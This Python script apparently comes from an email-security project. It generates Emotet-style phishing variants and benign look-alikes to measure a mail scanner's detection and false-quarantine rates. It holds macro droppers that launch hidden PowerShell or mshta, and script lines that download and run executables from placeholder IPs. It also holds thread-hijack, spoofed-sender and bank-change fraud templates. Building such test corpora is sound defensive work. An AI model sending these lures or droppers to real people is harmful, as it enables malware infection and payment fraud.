"""Red-team generator: plausible variants of each Emotet-style family and of the benign mail most likely
to be quarantined by mistake, scanned through the full scanner.

    .venv/bin/python scripts/variants.py --home /tmp/rt-home --corpus /work/shared/corpus [-n 6] [-v]

With a home that holds the corpus knowledge (init, directory import, learn), hijack and impersonation
variants use the corpus's people and history threads; `--no-knowledge` scans with our domains only.
Every message is built in code from the test builders (real archives and Office files); names, hosts
and passwords are drawn at random so no detector can key on them. Prints detection per family, every
miss and every false quarantine.
"""

from __future__ import annotations

import argparse
import base64
import csv
import email
import random
import string
import sys
from collections import Counter, defaultdict
from email import policy
from email.charset import BASE64, QP, Charset
from email.header import Header
from email.mime.application import MIMEApplication
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText
from email.utils import formataddr, formatdate, make_msgid
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))

from kakuri.model import Action, Direction, Envelope  # noqa: E402
from tests.builders_archive import encrypted_zip, iso_of, seven_zip, tar_of, zip_of  # noqa: E402
from tests.builders_office import (  # noqa: E402
    doc_with_vba, docx, exe_stub, plain_doc, plain_xls, xls_with_vba, xls_with_xlm, xlsx,
)

OURS = ("tokai-keiki.example", "tk-shoji.example", "tokaikeiki-asia.example")
DROPPERS = (
    'Sub AutoOpen()\n  Set s = CreateObject("WScript.Shell")\n  s.Run "powershell -w hidden -enc SQBFAFgA"\nEnd Sub\n',
    'Private Sub Document_Open()\n  Set x = CreateObject("MSXML2.ServerXMLHTTP")\n  x.Open "GET", "http://{ip}/wp/{tok}/", False\n  x.Send\nEnd Sub\n',
    'Sub Document_Open()\n  Dim a\n  a = Chr(112) & Chr(111) & "wershell"\n  GetObject("winmgmts:Win32_Process").Create a & " -e JABz", Null, Null, pid\nEnd Sub\n',
)
WB_OPEN = 'Private Sub Workbook_Open()\n  Shell "cmd /c mshta http://{ip}/a.hta", 0\nEnd Sub\n'
SCRIPTS = {
    "js": b'var s=new ActiveXObject("WScript.Shell");s.Run("powershell -c iwr http://198.51.100.7/p.exe");',
    "vbs": b'Set o = CreateObject("MSXML2.XMLHTTP")\r\no.Open "GET", "http://192.0.2.44/x.dll", False\r\n',
    "wsf": b'<job><script language="JScript">new ActiveXObject("WScript.Shell").Run("calc");</script></job>',
    "hta": b'<html><hta:application/><script language=VBScript>CreateObject("WScript.Shell").Run "calc"</script></html>',
    "bat": b'@echo off\r\npowershell -w hidden -c "iwr http://203.0.113.5/a -o a.exe; ./a.exe"\r\n',
    "ps1": b'$c=New-Object Net.WebClient;$c.DownloadFile("http://203.0.113.5/a","$env:TEMP\\a.exe")\r\n',
    "lnk": bytes.fromhex("4c0000000114020000000000c000000000000046") + b"\0" * 60 + b"C:\\Windows\\System32\\cmd.exe /c x",
    "exe": None,
    "scr": None,
    "jse": b"#@~^AAAAAA==^#~@",
    "cmd": b"@echo off\r\nstart /b rundll32 x.dll,DllRegisterServer\r\n",
}
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
WORDS = "sakura kumo umi yama kawa hana tsuki kaze hoshi mori sora nami".split()
TLDS = ("test", "example", "example.net", "example.org")


def rnd_token(r: random.Random, n: int = 8) -> str:
    return "".join(r.choice(string.ascii_letters + string.digits) for _ in range(n))


def rnd_host(r: random.Random) -> str:
    return f"{r.choice(WORDS)}-{r.choice(WORDS)}{r.randint(1, 99)}.{r.choice(TLDS)}"


def rnd_ip(r: random.Random) -> str:
    return f"{r.choice(('192.0.2', '198.51.100', '203.0.113'))}.{r.randint(1, 254)}"


# ------------------------------------------------------------------------------------------- message assembly

def _text_part(text: str, subtype: str, charset: str, cte: str) -> MIMEText:
    if charset == "iso-2022-jp":
        return MIMEText(text, subtype, "iso-2022-jp")
    if charset == "shift_jis":  # the email package would re-encode this as ISO-2022-JP
        from email.mime.nonmultipart import MIMENonMultipart
        part = MIMENonMultipart("text", subtype, charset="shift_jis")
        part.set_payload(base64.encodebytes(text.replace("\n", "\r\n").encode("shift_jis")).decode())
        part["Content-Transfer-Encoding"] = "base64"
        return part
    cs = Charset(charset)
    cs.body_encoding = {"base64": BASE64, "qp": QP}.get(cte, BASE64)
    part = MIMEText("", subtype)
    part.set_payload(text, cs)
    return part


def _fits(text: str | None, charset: str) -> bool:
    try:
        (text or "").encode(charset)
        return True
    except UnicodeEncodeError:
        return False


def _idna(address: str) -> str:
    local, _, domain = address.rpartition("@")
    return address if domain.isascii() else f"{local}@{domain.encode('idna').decode()}"


def mail(*, from_: tuple[str, str], to: list[tuple[str, str]], subject: str, body: str | None, html: str | None = None,
         attachments=(), charset: str = "utf-8", cte: str = "base64", headers: dict | None = None,
         in_reply_to: str | None = None, references: list[str] | None = None, msgid_domain: str | None = None) -> bytes:
    from_ = (from_[0], _idna(from_[1]))
    if not all(_fits(t, charset) for t in (body, html, subject, from_[0], *(n for n, _ in to))):
        charset = "utf-8"
    hcs = "utf-8" if charset not in ("iso-2022-jp", "shift_jis") else charset
    alt = None
    if body is not None and html is not None:
        alt = MIMEMultipart("alternative")
        alt.attach(_text_part(body, "plain", charset, cte))
        alt.attach(_text_part(html, "html", charset, cte))
    elif html is not None:
        alt = _text_part(html, "html", charset, cte)
    else:
        alt = _text_part(body or "", "plain", charset, cte)
    if attachments:
        msg = MIMEMultipart("mixed")
        msg.attach(alt)
        for item in attachments:
            name, data = item[0], item[1]
            ctype = item[2] if len(item) > 2 else "application/octet-stream"
            main, sub = ctype.split("/", 1)
            if main == "text":
                part = MIMEText(data.decode("utf-8"), sub, "utf-8")
            else:
                part = MIMEApplication(data, sub)
            part.add_header("Content-Disposition", "attachment", filename=("utf-8", "", name) if not name.isascii() else name)
            msg.attach(part)
    else:
        msg = alt
    msg["From"] = formataddr(from_, charset=hcs) if not from_[0].isascii() else formataddr(from_)
    msg["To"] = ", ".join(formataddr(t, charset=hcs) if not t[0].isascii() else formataddr(t) for t in to)
    msg["Subject"] = Header(subject, hcs).encode() if not subject.isascii() else subject
    msg["Date"] = formatdate(1600300000, localtime=False)
    msg["Message-ID"] = make_msgid(domain=msgid_domain or from_[1].rsplit("@", 1)[-1])
    msg["MIME-Version"] = "1.0"
    if in_reply_to:
        msg["In-Reply-To"] = in_reply_to
    if references:
        msg["References"] = " ".join(references)
    for k, v in (headers or {}).items():
        msg[k] = v
    return msg.as_bytes().replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")


# ------------------------------------------------------------------------------------------------ org knowledge

class Org:
    def __init__(self, corpus: Path) -> None:
        self.staff = list(csv.DictReader((corpus / "org" / "directory.csv").open(encoding="utf-8")))
        self.partners = list(csv.DictReader((corpus / "org" / "partners.csv").open(encoding="utf-8")))
        self.threads: dict[str, list] = defaultdict(list)
        import json
        for line in (corpus / "history" / "labels.jsonl").open(encoding="utf-8"):
            entry = json.loads(line)
            raw = (corpus / entry["file"]).read_bytes()
            msg = email.message_from_bytes(raw, policy=policy.default)
            body = msg.get_body(("plain",))
            self.threads[entry.get("thread") or entry["file"]].append({
                "id": msg["Message-ID"], "subject": str(msg["Subject"]), "from": msg["From"].addresses[0],
                "to": list(msg["To"].addresses) if msg["To"] else [], "body": body.get_content() if body else "",
                "refs": (msg["References"] or "").split(),
            })
        self.partner_threads = [t for t in self.threads.values() if any(
            not m["from"].addr_spec.endswith(OURS) for m in t)]

    def partner_by_email(self, address: str):
        return next((p for p in self.partners if p["email"] == address), None)


def spoof_name(r: random.Random, person: dict) -> str:
    """A display-name variant an attacker (or a mail client) might use."""
    ja, romaji = person["name_ja"], person["name_romaji"]
    fam, giv = (ja.split() + [""])[:2]
    rfirst, rlast = (romaji.split() + [""])[:2]
    forms = [ja, ja.replace(" ", ""), ja.replace(" ", "\u3000"), romaji, f"{rlast} {rfirst}", f"{rlast.upper()} {rfirst}",
             f"{rlast}, {rfirst}", f"{ja} ({romaji})", romaji.upper(), f"{ja}様", f"{fam} {giv} / {person.get('company_ja', '')}".strip(" /"),
             "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in romaji)]
    return r.choice(forms)


def quote(body: str, who: str) -> str:
    return f"\n\n-----Original Message-----\nFrom: {who}\n\n" + "\n".join("> " + line for line in body.splitlines()[:25])


# -------------------------------------------------------------------------------------------------- payloads

def macro_payload(r: random.Random, name_stub: str):
    ip, tok = rnd_ip(r), rnd_token(r, 6)
    kind = r.choice(("doc", "xls", "docm", "xlsm", "xls_xlm", "doc", "xls"))
    dropper = r.choice(DROPPERS).replace("{ip}", ip).replace("{tok}", tok)
    if kind == "doc":
        return f"{name_stub}.doc", doc_with_vba({"NewMacros": dropper})
    if kind == "xls":
        return f"{name_stub}.xls", xls_with_vba({"Module1": WB_OPEN.replace("{ip}", ip)})
    if kind == "docm":
        return f"{name_stub}.docm", docx(macro={"NewMacros": dropper})
    if kind == "xlsm":
        return f"{name_stub}.xlsm", xlsx(macro={"Module1": WB_OPEN.replace("{ip}", ip)})
    return f"{name_stub}.xls", xls_with_xlm([("EXEC", "cmd /c rundll32 x.dll"), ("HALT", None)])


def script_payload(r: random.Random, name_stub: str):
    ext = r.choice(tuple(SCRIPTS))
    data = SCRIPTS[ext] if SCRIPTS[ext] is not None else exe_stub()
    if r.random() < 0.2:
        return f"{name_stub}.pdf.{ext}", data
    return f"{name_stub}.{ext}", data


NAME_STUBS = ("請求書_{n}", "見積書_{n}", "Invoice_{n}", "INV-{n}", "注文書{n}", "발주서_{n}", "发票_{n}", "ใบแจ้งหนี้_{n}", "DOC{n}", "支払明細_{n}")


def stub(r):
    return r.choice(NAME_STUBS).format(n=r.randint(1000, 999999))


PW_PHRASES = {
    "ja": ("パスワード：{pw}", "パスワードは「{pw}」です。", "解凍パスワード\n{pw}", "PW：{pw}", "パスワード　{pw}", "【パスワード】{pw}",
           "ﾊﾟｽﾜｰﾄﾞ:{pw}", "パスワードは {pw} となります。", "添付ファイルのパスワードは下記の通りです。\n\n{pw}\n", "パス：{pw}",
           "暗証番号：{pw}", "パスワード(半角)：{pw}"),
    "en": ("Password: {pw}", "The password is {pw}", "PW - {pw}", "password: {pw}", "Archive password:\n{pw}",
           "Use password {pw} to open the file.", "pass: {pw}", "Password for the attachment is \"{pw}\".", "PWD={pw}",
           "File password - {pw}"),
    "zh": ("密码：{pw}", "解压密码: {pw}", "文件密码为 {pw}", "密碼：{pw}"),
    "th": ("รหัสผ่าน: {pw}", "Password / รหัสผ่าน : {pw}"),
    "de": ("Passwort: {pw}", "Kennwort: {pw}"),
}
GREET = {
    "ja": ("お世話になっております。\n添付ファイルをご確認ください。\n{pwline}\nよろしくお願いいたします。", "いつもお世話になっております。\n請求書を送付いたします。\n\n{pwline}\n\n以上"),
    "en": ("Hello,\nPlease see the attached file.\n{pwline}\nBest regards", "Hi,\n\nAttached is the document you requested.\n\n{pwline}\n\nThank you"),
    "zh": ("您好，\n附件是发票，请查收。\n{pwline}\n谢谢",),
    "th": ("เรียน ท่าน\nกรุณาตรวจสอบไฟล์แนบ\n{pwline}\nขอบคุณครับ",),
    "de": ("Hallo,\nanbei die Rechnung.\n{pwline}\nMfG",),
}


def encrypted_archive(r: random.Random, files: dict[str, bytes], pw: str):
    kind = r.choice(("zipcrypto", "zipcrypto", "aes", "7z", "7z_hdr", "nested"))
    if kind == "zipcrypto":
        return ".zip", encrypted_zip(files, pw), kind
    if kind == "aes":
        return ".zip", encrypted_zip(files, pw, aes=True), kind
    if kind == "7z":
        return ".7z", seven_zip(files, password=pw), kind
    if kind == "7z_hdr":
        return ".7z", seven_zip(files, password=pw, encrypt_headers=True), kind
    return ".zip", encrypted_zip({"inner.zip": zip_of(files)}, pw), kind


# ------------------------------------------------------------------------------------------ malicious families

def fam_encrypted_zip_pw(r: random.Random, org: Org):
    lang = r.choice(tuple(PW_PHRASES))
    pw = r.choice((rnd_token(r, r.randint(4, 10)), str(r.randint(1000, 99999999)), rnd_token(r, 6).lower()))
    payload = macro_payload(r, stub(r)) if r.random() < 0.6 else script_payload(r, stub(r))
    ext, data, kind = encrypted_archive(r, {payload[0]: payload[1]}, pw)
    pwline = r.choice(PW_PHRASES[lang]).format(pw=pw)
    where = r.choice(("body", "body", "body", "html_only", "subject"))
    body = r.choice(GREET[lang]).format(pwline=pwline if where == "body" else "")
    html = None
    subject = r.choice(("請求書の件", "RE: ご確認ください", "Invoice", "发票", "Document"))
    if where == "html_only":
        html = "<html><body><p>" + body.replace("\n", "<br>") + f"</p><p><b>{pwline.replace(chr(10), '<br>')}</b></p></body></html>"
        body = None
    elif where == "subject":
        subject = f"{subject} ({pwline.splitlines()[0]})" if "\n" not in pwline else f"{subject} PW:{pw}"
    person = r.choice(org.partners)
    disguise = r.random() < 0.5
    from_ = (spoof_name(r, person) if disguise else r.choice(WORDS).title(), f"{r.choice(WORDS)}{r.randint(1, 99)}@{rnd_host(r)}")
    charset, cte = r.choice((("utf-8", "base64"), ("utf-8", "qp"), ("iso-2022-jp", "7bit"), ("shift_jis", "base64")))
    if lang in ("zh", "th", "de") and charset != "utf-8":
        charset = "utf-8"
    staff = r.choice(org.staff)
    raw = mail(from_=from_, to=[(staff["name_ja"], staff["email"])], subject=subject, body=body, html=html,
               attachments=[(stub(r) + ext, data)], charset=charset, cte=cte)
    return raw, _in(from_[1], staff["email"]), f"{lang}/{kind}/{where}/{payload[0].rsplit('.', 1)[-1]}/{charset}"


def fam_zip_script(r: random.Random, org: Org):
    payload = script_payload(r, stub(r))
    kind = r.choice(("zip", "7z", "tar.gz", "iso", "zipzip", "img"))
    files = {payload[0]: payload[1]}
    if kind == "zip":
        data = zip_of(files)
    elif kind == "7z":
        data = seven_zip(files)
    elif kind == "tar.gz":
        data = tar_of(files, compression="gz")
    elif kind in ("iso", "img"):
        data = iso_of({payload[0].upper()[-11:] if False else "DOC.LNK": SCRIPTS["lnk"], "DATA.DLL": exe_stub()})
    else:
        data = zip_of({"inner.zip": zip_of(files)})
    staff = r.choice(org.staff)
    from_ = (r.choice(("", "Accounting", "佐藤")), f"{r.choice(WORDS)}@{rnd_host(r)}")
    raw = mail(from_=from_, to=[("", staff["email"])], subject=r.choice(("請求書", "Invoice", "ファイル送付")),
               body="添付ファイルをご確認ください。", attachments=[(stub(r) + "." + kind.replace("zipzip", "zip"), data)],
               charset=r.choice(("utf-8", "iso-2022-jp")), cte="base64")
    return raw, _in(from_[1], staff["email"]), f"{kind}/{payload[0].rsplit('.', 1)[-1]}"


def _lure_url(r: random.Random, org: Org) -> tuple[str, str]:
    host, ip = rnd_host(r), rnd_ip(r)
    name = r.choice(("INV_{n}.doc", "Invoice_{n}.zip", "請求書.zip", "document.doc", "report_{n}.xlsm", "scan_{n}.7z")).format(n=r.randint(100, 9999))
    tok = rnd_token(r, 8).lower()
    partner_dom = r.choice(org.partners)["domain"]
    forms = {
        "ip_file": f"http://{ip}/INVOICE/{name}",
        "cms_file": f"https://{host}/wp-content/uploads/2020/09/{name}",
        "cms_noext": f"https://{host}/wp-admin/css/colors/{tok}/",
        "ip_noext": f"http://{ip}/{tok}/",
        "ip_port": f"http://{ip}:8080/{tok}/{name}",
        "plain_file": f"https://{host}/files/{name}",
        "plain_noext_path": f"https://{host}/Invoice/{tok}/",
        "shortener": f"https://bit.ly/{rnd_token(r, 7)}",
        "lookalike_partner": f"https://{partner_dom.replace('i', '1', 1).replace('o', '0', 1)}/dl/{name}",
        "cgi": f"http://{host}/cgi-bin/dl/{tok}/",
    }
    kind = r.choice(tuple(forms))
    return kind, forms[kind]


def fam_lure_link(r: random.Random, org: Org):
    kind, url = _lure_url(r, org)
    style = r.choice(("text", "html_mismatch", "html_text"))
    person = r.choice(org.partners)
    staff = r.choice(org.staff)
    intro = r.choice(("請求書は以下からダウンロードしてください。", "Please download the invoice below.", "下記URLよりファイルをご確認ください。",
                      "ไฟล์เอกสารดาวน์โหลดได้ที่ลิงก์ด้านล่าง", "请从以下链接下载发票。"))
    body, html = f"{intro}\n{url}\n", None
    if style != "text":
        shown = r.choice((f"https://{staff['domain']}/share/{rnd_token(r, 6)}", "請求書をダウンロード", "Download invoice (PDF)", url))
        if style == "html_text":
            shown = url
        html = f"<html><body><p>{intro}</p><p><a href=\"{url}\">{shown}</a></p></body></html>"
        body = None if r.random() < 0.5 else f"{intro}\n{shown}\n"
    from_ = (spoof_name(r, person), f"{r.choice(WORDS)}{r.randint(1, 99)}@{rnd_host(r)}")
    if r.random() < 0.3:
        from_ = (r.choice(WORDS).title(), from_[1])  # no impersonation: a bare stranger
    raw = mail(from_=from_, to=[(staff["name_ja"], staff["email"])], subject=r.choice(("請求書", "RE: 請求書の件", "Invoice")),
               body=body, html=html, charset=r.choice(("utf-8", "iso-2022-jp")) if body and intro.isascii() is False and "ไ" not in intro and "请" not in intro else "utf-8")
    variant = f"{kind}/{style}/{'spoof' if from_[0] != from_[0].title() or ' ' in from_[0] else 'stranger'}"
    return raw, _in(from_[1], staff["email"]), variant


def fam_hijack(r: random.Random, org: Org):
    thread = r.choice(org.partner_threads)
    last = thread[-1]
    partner_msgs = [m for m in thread if not m["from"].addr_spec.endswith(OURS)]
    victim = r.choice(partner_msgs)["from"]
    ours = next((m["from"] for m in thread if m["from"].addr_spec.endswith(OURS)), None) or last["to"][0]
    person = org.partner_by_email(victim.addr_spec) or {"name_ja": victim.display_name, "name_romaji": victim.display_name, "company_ja": ""}
    name_mode = r.choice(("spoof", "spoof", "own", "address_in_name"))
    attacker = f"{r.choice(WORDS)}{r.randint(1, 99)}@{rnd_host(r)}"
    shown = {"spoof": spoof_name(r, person), "own": r.choice(WORDS).title(), "address_in_name": f"{victim.addr_spec}"}[name_mode]
    base = last["subject"]
    subject = base if base.lower().startswith("re") else "RE: " + base
    payload_mode = r.choice(("macro", "macro", "enc_zip", "zip_macro", "link"))
    attachments, text = [], r.choice(("添付ファイルをご確認ください。", "修正版をお送りします。ご確認お願いします。", "Please check the attached file.", "请查看附件。"))
    if payload_mode == "macro":
        attachments = [macro_payload(r, stub(r))]
    elif payload_mode == "zip_macro":
        name, data = macro_payload(r, stub(r))
        attachments = [(stub(r) + ".zip", zip_of({name: data}))]
    elif payload_mode == "enc_zip":
        pw = rnd_token(r, 6)
        name, data = macro_payload(r, stub(r))
        attachments = [(stub(r) + ".zip", encrypted_zip({name: data}, pw))]
        text += "\n" + r.choice(PW_PHRASES["ja"] + PW_PHRASES["en"]).format(pw=pw)
    else:
        text += "\n" + _lure_url(r, org)[1]
    refs_mode = r.choice(("full", "full", "irt_only", "none"))
    irt = last["id"] if refs_mode != "none" else None
    refs = (last["refs"] + [last["id"]]) if refs_mode == "full" else None
    charset, cte = r.choice((("iso-2022-jp", "7bit"), ("utf-8", "base64"), ("shift_jis", "base64"), ("utf-8", "qp")))
    raw = mail(from_=(shown, attacker), to=[(ours.display_name, ours.addr_spec)], subject=subject,
               body=text + quote(last["body"], str(last["from"])), attachments=attachments, charset=charset, cte=cte,
               in_reply_to=irt, references=refs)
    return raw, _in(attacker, ours.addr_spec), f"{name_mode}/{payload_mode}/{refs_mode}/{charset}"


LOOKALIKE_OURS = (
    lambda d: d.replace("o", "0", 1), lambda d: d.replace("i", "l", 1), lambda d: d.replace("-", "", 1),
    lambda d: "mail-" + d, lambda d: d.replace(".example", "-jp.example"), lambda d: d.replace("k", "kk", 1),
    lambda d: d.split(".")[0] + ".test", lambda d: d.replace("e", "é", 1),
    lambda d: d.replace("m", "rn", 1) if "m" in d.split(".")[0] else d.replace("i", "1", 1),
)


def lookalike_of(r: random.Random, domain: str) -> str:
    while True:
        seen = r.choice(LOOKALIKE_OURS)(domain)
        if seen != domain:
            return seen


def fam_spoof_staff(r: random.Random, org: Org):
    person = r.choice(org.staff)
    target = r.choice([s for s in org.staff if s["email"] != person["email"]])
    mode = r.choice(("external_name", "external_name", "lookalike_ours", "lookalike_ours", "address_in_name", "replyto"))
    local = person["email"].split("@")[0]
    if mode == "lookalike_ours":
        dom = lookalike_of(r, person["domain"])
        from_ = (r.choice((person["name_ja"], person["name_romaji"], "")), f"{local}@{dom}")
    elif mode == "address_in_name":
        from_ = (f"{person['email']}", f"{r.choice(WORDS)}@{rnd_host(r)}")
    else:
        from_ = (spoof_name(r, person), f"{r.choice((local, r.choice(WORDS)))}@{r.choice(('gmail.test', 'outlook.test', rnd_host(r)))}")
    headers = {}
    if mode == "replyto":
        from_ = (person["name_ja"], person["email"])  # spoofed From of ours, replies go elsewhere
        headers["Reply-To"] = formataddr((person["name_romaji"], f"{local}.{r.randint(1, 99)}@{rnd_host(r)}"))
    content = r.choice(("bec", "bec", "link", "macro"))
    text = r.choice(("至急対応をお願いしたい件があります。今お時間ありますか？", "Are you available? I need you to handle a payment today.",
                     "振込先の口座が変更になりましたので、ご対応をお願いします。", "お疲れ様です。以下の資料をご確認ください。"))
    attachments = []
    if content == "link":
        text += "\n" + _lure_url(r, org)[1]
    elif content == "macro":
        attachments = [macro_payload(r, stub(r))]
    raw = mail(from_=from_, to=[(target["name_ja"], target["email"])], subject=r.choice(("至急", "お願い", "Urgent request", "【重要】確認依頼")),
               body=text, attachments=attachments, charset=r.choice(("iso-2022-jp", "utf-8")), headers=headers)
    env = Envelope(mail_from=from_[1] if mode != "replyto" else f"bounce@{rnd_host(r)}", rcpt_tos=(target["email"],),
                   client_ip=rnd_ip(r), direction=Direction.INBOUND)
    return raw, env, f"{mode}/{content}"


def fam_spoof_partner_domain(r: random.Random, org: Org):
    person = r.choice(org.partners)
    target = r.choice(org.staff)
    local, dom = person["email"].split("@")
    dom2 = lookalike_of(r, dom)
    content = r.choice(("bec_bank", "link", "macro", "enc_zip"))
    text = "お世話になっております。\n弊社の振込先口座が変更となりましたのでご連絡いたします。"
    attachments = []
    if content == "link":
        text += "\n" + _lure_url(r, org)[1]
    elif content == "macro":
        attachments = [macro_payload(r, stub(r))]
    elif content == "enc_zip":
        pw = rnd_token(r, 7)
        name, data = macro_payload(r, stub(r))
        attachments = [(stub(r) + ".zip", encrypted_zip({name: data}, pw))]
        text += f"\nパスワード：{pw}"
    from_ = (r.choice((person["name_ja"], person["name_romaji"])), f"{local}@{dom2}")
    raw = mail(from_=from_, to=[(target["name_ja"], target["email"])], subject="【重要】振込先変更のお知らせ", body=text,
               attachments=attachments, charset="iso-2022-jp")
    return raw, _in(from_[1], target["email"]), f"{content}"


def fam_outbound_infected(r: random.Random, org: Org):
    staff = r.choice(org.staff)
    rcpts = r.sample(org.partners, k=r.randint(3, 8))
    thread = r.choice(org.partner_threads)
    content = r.choice(("macro", "macro", "zip_macro", "enc_zip", "link", "zip_js"))
    text = "添付ファイルをご確認ください。"
    attachments = []
    if content == "macro":
        attachments = [macro_payload(r, stub(r))]
    elif content == "zip_macro":
        name, data = macro_payload(r, stub(r))
        attachments = [(stub(r) + ".zip", zip_of({name: data}))]
    elif content == "enc_zip":
        pw = rnd_token(r, 5)
        name, data = macro_payload(r, stub(r))
        attachments = [(stub(r) + ".zip", encrypted_zip({name: data}, pw))]
        text += f"\nパスワード：{pw}"
    elif content == "zip_js":
        attachments = [(stub(r) + ".zip", zip_of({stub(r) + ".js": SCRIPTS["js"]}))]
    else:
        text += "\n" + _lure_url(r, org)[1]
    raw = mail(from_=(staff["name_ja"], staff["email"]), to=[(p["name_ja"], p["email"]) for p in rcpts],
               subject="RE: " + thread[0]["subject"], body=text + quote(thread[-1]["body"], str(thread[-1]["from"])),
               attachments=attachments, charset=r.choice(("iso-2022-jp", "utf-8")))
    env = Envelope(mail_from=staff["email"], rcpt_tos=tuple(p["email"] for p in rcpts), client_ip=f"10.{r.randint(1, 99)}.{r.randint(1, 250)}.{r.randint(2, 250)}",
                   helo=f"DESKTOP-{rnd_token(r, 7).upper()}", direction=Direction.OUTBOUND)
    return raw, env, content


def fam_eicar(r: random.Random, org: Org):
    staff = r.choice(org.staff)
    kind = r.choice(("plain", "zip", "zipzip", "7z", "txt_inline"))
    files = {"eicar.com": EICAR}
    att = {"plain": ("eicar.com", EICAR), "zip": ("t.zip", zip_of(files)), "zipzip": ("t.zip", zip_of({"a.zip": zip_of(files)})),
           "7z": ("t.7z", seven_zip(files)), "txt_inline": ("test.txt", EICAR)}[kind]
    raw = mail(from_=("AV test", f"test@{rnd_host(r)}"), to=[("", staff["email"])], subject="test", body="test", attachments=[att])
    return raw, _in(f"test@x.test", staff["email"]), kind


def _in(mail_from: str, rcpt: str) -> Envelope:
    return Envelope(mail_from=mail_from, rcpt_tos=(rcpt,), client_ip="198.51.100.99", direction=Direction.INBOUND)


MALICIOUS = {
    "encrypted_zip_pw_in_body": fam_encrypted_zip_pw, "zip_script": fam_zip_script, "lure_link": fam_lure_link,
    "hijack": fam_hijack, "spoof_staff": fam_spoof_staff, "spoof_partner_domain": fam_spoof_partner_domain,
    "outbound_infected": fam_outbound_infected, "eicar": fam_eicar,
}



def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--home", required=True)
    ap.add_argument("--corpus", default="/work/shared/corpus")
    ap.add_argument("-n", type=int, default=6)
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--no-knowledge", action="store_true")
    ap.add_argument("-v", action="store_true")
    ap.add_argument("--only")
    ap.add_argument("--dump", type=Path, help="write each miss and false quarantine here as .eml")
    args = ap.parse_args()
    from variants_benign import BENIGN  # the look-alikes that must be delivered

    from kakuri.settings import load_settings
    from kakuri.wiring import build_scanner, build_scanner_from_home

    settings = load_settings(args.home)
    scanner = build_scanner(settings) if args.no_knowledge else build_scanner_from_home(settings)
    org = Org(Path(args.corpus))
    r = random.Random(args.seed)
    totals: dict[str, Counter] = defaultdict(Counter)
    for label, families in (("malicious", MALICIOUS), ("benign", BENIGN)):
        for family, build in families.items():
            if args.only and args.only not in family:
                continue
            for _ in range(args.n):
                raw, env, variant = build(r, org)
                verdict = scanner.scan(raw, env).verdict
                caught = verdict.action in (Action.QUARANTINE, Action.REJECT)
                ok = caught if label == "malicious" else not caught
                totals[(label, family)]["ok" if ok else "bad"] += 1
                if not ok and args.dump:
                    args.dump.mkdir(parents=True, exist_ok=True)
                    (args.dump / f"{family}-{variant.replace('/', '_')}-{totals[(label, family)]['bad']}.eml").write_bytes(raw)
                if not ok or args.v:
                    print(f"{'MISS' if label == 'malicious' and not ok else 'FP  ' if not ok else 'ok  '} {family}/{variant} "
                          f"score={verdict.score:.1f} {sorted(verdict.symbols)}")
    print()
    for (label, family), c in sorted(totals.items()):
        print(f"{label:9} {family:28} {c['ok']:3}/{c['ok'] + c['bad']:3}")
    mal = [c for (lab, _), c in totals.items() if lab == "malicious"]
    ben = [c for (lab, _), c in totals.items() if lab == "benign"]
    print(f"malicious caught {sum(c['ok'] for c in mal)}/{sum(c['ok'] + c['bad'] for c in mal)}; "
          f"benign false quarantines {sum(c['bad'] for c in ben)}/{sum(c['ok'] + c['bad'] for c in ben)}")


if __name__ == "__main__":
    main()
